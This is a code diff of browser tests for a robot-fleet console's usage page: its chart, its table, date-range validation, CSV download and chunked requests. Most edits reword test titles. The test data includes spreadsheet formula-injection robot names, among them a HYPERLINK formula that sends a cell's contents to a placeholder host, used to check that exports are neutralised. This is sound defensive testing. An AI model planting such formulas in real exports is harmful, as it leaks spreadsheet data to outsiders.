@@ -17,14 +17,14 @@ const DAY_MS = 86_400_000;
 /** Start of the day in UTC on which the tests began; the ledger ends before it. Whether they go on past midnight makes no difference. */
 const TODAY_MS = Math.floor(Date.now() / DAY_MS) * DAY_MS;
 
-/** A formula, as whoever registers a robot may name it. */
+/** A formula as the name of a robot. */
 const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
 /** More than the chart has colours for. */
 const ROBOTS = [FORMULA, "-2+3", "@sum", "arm, left", "arm-5", "arm-6", "arm-7", "arm-8"];
 
-/** What the ledger has: the robot of index `i` was served `8 - i` hours a day, on the last 40 days. */
+/** Fills the ledger: the robot of index `i` was served `8 - i` hours a day, on the last 40 days. */
 async function fillLedger(running: RunningService, robots: readonly string[], days: number): Promise<void> {
-  using database = new DatabaseSync(join(running.data_directory, "service.db"));
+  using database = new DatabaseSync(join(running.dataDirectory, "service.db"));
   const organizationId = String(database.prepare("select id from organizations").get()?.["id"]);
   await beginWriting(database);
   database.exec(`insert into robots (id, organization_id, name, robot_type_id, region, configuration_digest, labels, created_at, updated_at, refitted_at, changed_at, audit_id, recent_changes, made_by)
@@ -72,7 +72,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
   /** The last 30 days by the calendar, today among them. */
   const DATES = `/usage?from=${dayOf(TODAY_MS - 29 * DAY_MS)}&to=${dayOf(TODAY_MS)}`;
 
-  it("draws the days with those that have none, and says in words what it draws", async () => {
+  it("draws all days, also those without usage, and says the same in a sentence", async () => {
     const page = await open(DATES);
     // 29 days with 36 hours each; today has none.
     const sentence = `Hours by day, stacked by robot: 1,044 hours in 30 days; the most on ${dayOf(TODAY_MS - 29 * DAY_MS)}, 36 hours. Most used: ${FORMULA}, 232 hours.`;
@@ -84,9 +84,9 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
   });
 
-  it("the last 30 days, which it shows where nothing is said, are 30 times 24 hours, as at the command line", async () => {
+  it("shows the last 30 times 24 hours by default, as the command line does", async () => {
     const page = await open("/usage?days=7");
-    // The page may still be about to ask for its seven days.
+    // The request for seven days may still be running.
     const asked = page.waitForRequest((request) => {
       const { pathname, searchParams } = new URL(request.url());
       const moment = (name: string) => Date.parse(searchParams.get(name) ?? "");
@@ -98,7 +98,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     expect(new URL(page.url()).search).toBe("");
   });
 
-  it("has every number of the chart in a table, by the keyboard alone", async () => {
+  it("shows every number of the chart in a table, with the keyboard alone", async () => {
     const page = await open(DATES);
     await page.getByText("The days as a table").focus();
     await page.keyboard.press("Enter");
@@ -115,7 +115,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     expect(await violations(page)).toEqual([]);
   });
 
-  it("shows models instead, and another time, both from the address", async () => {
+  it("groups by model, and shows another range, both from the URL", async () => {
     const page = await open("/usage");
     await page.getByLabel("Stacked by", { exact: true }).selectOption("Model");
     await page.getByRole("link", { name: "act" }).waitFor();
@@ -138,7 +138,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     [`?from=${YESTERDAY}&to=2020-01-01`, "The last day is before the first."],
     ["?from=2020-01-01&to=2025-01-01", "Choose at most 400 days; these are 1828."],
     ["?from=tomorrow", "Choose a first and a last day."],
-  ])("%s: asks for another time beside the fields, and the service for nothing", async (query, problem) => {
+  ])("%s: says beside the fields what is wrong, and sends no request", async (query, problem) => {
     const before = running.requests.length;
     const page = await open(`/usage${query}`);
     await page.getByText(problem).waitFor();
@@ -146,7 +146,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     expect(paths.filter((path) => path.includes("/usage/summary"))).toEqual([]);
   });
 
-  it("gives all of it as a file that no spreadsheet takes for formulas", async () => {
+  it("downloads the usage as a file in which no spreadsheet finds a formula", async () => {
     const page = await open(`/usage?from=${YESTERDAY}&to=${YESTERDAY}`);
     const [download] = await Promise.all([
       page.waitForEvent("download"),
@@ -168,7 +168,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     ]);
   });
 
-  it("asks in parts where the service gives not all at once, and comes to the same", async () => {
+  it("requests a large range in parts, with the same result", async () => {
     const large = await startConsole();
     onTestFinished(() => large[Symbol.asyncDispose]());
     const robots = Array.from({ length: 600 }, (_, index) => `arm-${index}`);
@@ -182,7 +182,7 @@ describe.skipIf(WITHOUT_BROWSER)(`the console: usage${BROWSER_NEEDED}`, () => {
     expect(await page.locator(".usage-bar").first().locator(".usage-part").count()).toBe(7);
   });
 
-  it("says what would be here where nothing was used, and keeps what it knows when the service is gone", async () => {
+  it("explains a range without usage, and keeps the last answer when the service fails", async () => {
     const empty = await startConsole();
     onTestFinished(() => empty[Symbol.asyncDispose]());
     const page = await open("/usage", empty);
